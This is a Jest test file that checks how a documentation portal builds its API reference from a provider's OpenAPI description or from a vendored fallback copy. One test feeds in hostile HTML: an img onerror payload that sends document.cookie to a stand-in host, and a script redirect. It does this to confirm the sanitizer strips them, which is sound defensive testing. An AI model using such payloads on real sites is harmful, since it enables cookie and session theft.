/**
 * @jest-environment node
 *
 * Spec §2.1 and §7.1: `/api` is generated from the provider's `<API_HOST>/api/v1/openapi.json`. The
 * build (gen-api → bundleContract) uses the provider's description when API_HOST is set and it passes
 * the checks of `openapi:fetch`, else the vendored copy; one log line says which, and the landing page
 * (info.description) says which and when. A local HTTP server plays the provider; nothing leaves the
 * machine.
 */
import { fork, type ChildProcess } from 'node:child_process';
import fs from 'node:fs';
import { fakeProviderForSuite } from './provider';
import os from 'node:os';
import path from 'node:path';
import { loadContract } from '../../../config/openapi';

const REPO = path.resolve(__dirname, '../../..');

const provider = fakeProviderForSuite();

interface Built {
  log: string;
  /** What the bundle said on stderr (a text the sanitizer changed). */
  warnings: string;
  // eslint-disable-next-line @typescript-eslint/no-explicit-any
  bundled: any;
}

/** The Node process (with tsx) that bundles, ./bundleChild.ts: Redocly is ESM only. One for the suite. */
let child: ChildProcess;
const waiting = new Map<number, (answer: { log: string; warnings: string; error?: string }) => void>();
let asked = 0;

beforeAll(() => {
  const env = { ...process.env };
  delete env.API_HOST;
  child = fork(path.join(__dirname, 'bundleChild.ts'), [], {
    cwd: REPO,
    env,
    execArgv: ['--import', 'tsx'],
    stdio: ['ignore', 'inherit', 'inherit', 'ipc'],
  });
  child.on('message', (answer: { id: number; log: string; warnings: string; error?: string }) => {
    waiting.get(answer.id)?.(answer);
    waiting.delete(answer.id);
  });
  child.on('exit', (code) => {
    for (const answer of waiting.values()) answer({ log: '', warnings: '', error: `the child exited with ${code}` });
    waiting.clear();
  });
});

afterAll(() => {
  if (child?.connected) child.disconnect();
});

/** Bundles as `npm run gen-api` does, in the child, into a temporary site folder. */
async function build(apiHost: string | undefined): Promise<Built> {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'source-'));
  fs.cpSync(path.join(REPO, 'openapi'), path.join(root, 'openapi'), { recursive: true });
  fs.copyFileSync(path.join(REPO, 'redocly.yaml'), path.join(root, 'redocly.yaml'));
  const id = asked++;
  const answer = await new Promise<{ log: string; warnings: string; error?: string }>((resolve) => {
    waiting.set(id, resolve);
    child.send({ id, root, apiHost });
  });
  if (answer.error !== undefined) throw new Error(`bundleContract failed: ${answer.error}`);
  const bundled = JSON.parse(fs.readFileSync(path.join(root, 'generated/openapi/customer-api.json'), 'utf8'));
  return { log: answer.log, warnings: answer.warnings, bundled };
}

/** The provider's description: the vendored contract as JSON, with one operation the copy lacks. */
function providerContract() {
  const doc = loadContract();
  doc.info.title = 'Provider Contract';
  doc.paths['/provider_only'] = {
    get: {
      operationId: 'providerOnly',
      summary: 'Only in the provider description',
      tags: doc.paths['/doctypes'].get.tags,
      responses: doc.paths['/doctypes'].get.responses,
    },
  };
  return doc;
}

const landing = (built: Built) => built.bundled.info.description as string;

describe('the description /api is built from', () => {
  it('is the vendored copy when API_HOST is not set, and says so in one log line and on the landing page', async () => {
    const built = await build(undefined);
    expect(built.log.split('\n').filter((line) => line.startsWith('API reference:'))).toEqual([
      'API reference: built from the vendored copy openapi/customer-api.yaml (API_HOST is not set).',
    ]);
    expect(built.bundled.info.title).toBe(loadContract().info.title);
    expect(landing(built)).toMatch(
      /:::info\[Where this reference comes from\]\n\nBuilt on \d{4}-\d{2}-\d{2} \d{2}:\d{2} UTC from a copy of the API description kept with this portal/,
    );
    // Nothing was asked of the provider, so the page does not say its description was unavailable.
    expect(landing(built)).toContain("kept with this portal, which does not download the provider's description");
    expect(landing(built)).not.toMatch(/not available|could not be downloaded/);
  });

  it("is the provider's when API_HOST serves a valid description", async () => {
    provider.answer = (res) =>
      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(providerContract()));
    const built = await build(provider.host);
    expect(built.log).toContain(
      `API reference: built from the provider's description at ${provider.host}/api/v1/openapi.json.`,
    );
    expect(built.bundled.info.title).toBe('Provider Contract');
    expect(built.bundled.paths['/provider_only'].get.summary).toBe('Only in the provider description');
    expect(landing(built)).toContain(
      `from the provider's OpenAPI description, downloaded from \`${provider.host}/api/v1/openapi.json\``,
    );
    expect(built.bundled.servers.map((server: { url: string }) => server.url)).toContain(
      `${provider.host}/api/v1/customer`,
    );
  });

  it("is the provider's with its texts' hostile HTML dropped, each such text named in the log", async () => {
    const hostile = providerContract();
    const operation = hostile.paths['/provider_only'].get;
    operation.description =
      'Lists things. <img src="https://example.com/x.png" onerror="location=\'//x.example/?\'+document.cookie">';
    operation.summary = 'Only here <script>$RX=0;location="//x.example"</script>';
    provider.answer = (res) => res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(hostile));
    const built = await build(provider.host);
    expect(built.bundled.info.title).toBe('Provider Contract');
    const bundled = built.bundled.paths['/provider_only'].get;
    // The description's own text; the notes the bundle appends follow it as paragraphs of their own.
    expect([bundled.description.split('\n\n')[0], bundled.summary]).toEqual([
      'Lists things. ![](https://example.com/x.png)',
      'Only here',
    ]);
    expect(built.warnings.split('\n')).toEqual([
      "API reference: the description's /paths/~1provider_only/get/summary holds what the portal does not show as written " +
        '(script); the pages show it without that. Fix the text in the OpenAPI description.',
      "API reference: the description's /paths/~1provider_only/get/description holds what the portal does not show as written " +
        '(img[onerror]); the pages show it without that. Fix the text in the OpenAPI description.',
    ]);
  });

  it('is the vendored copy, with the reason logged, when the provider answers an error', async () => {
    provider.answer = (res) => res.writeHead(503).end('down');
    const built = await build(provider.host);
    expect(built.log).toContain('API reference: built from the vendored copy openapi/customer-api.yaml;');
    expect(built.log).toContain('HTTP 503');
    expect(built.bundled.paths['/provider_only']).toBeUndefined();
    expect(landing(built)).toContain('from a copy of the API description kept with this portal');
    expect(landing(built)).toContain(
      `because the provider's description at \`${provider.host}/api/v1/openapi.json\` could not be downloaded or used at the time`,
    );
    expect(landing(built)).not.toContain('does not download');
  });

  it('is the vendored copy when the provider serves something that fails the checks of openapi:fetch', async () => {
    const broken = providerContract();
    // The house lint (redocly.yaml) requires every operation to document its 403 (spec §6, §8.1).
    broken.paths['/provider_only'].get.responses = { '200': { description: 'OK' } };
    provider.answer = (res) => res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(broken));
    const built = await build(provider.host);
    expect(built.log).toMatch(/built from the vendored copy openapi\/customer-api\.yaml;.*fails the Redocly lint/);
    expect(built.bundled.info.title).toBe(loadContract().info.title);
  });
});
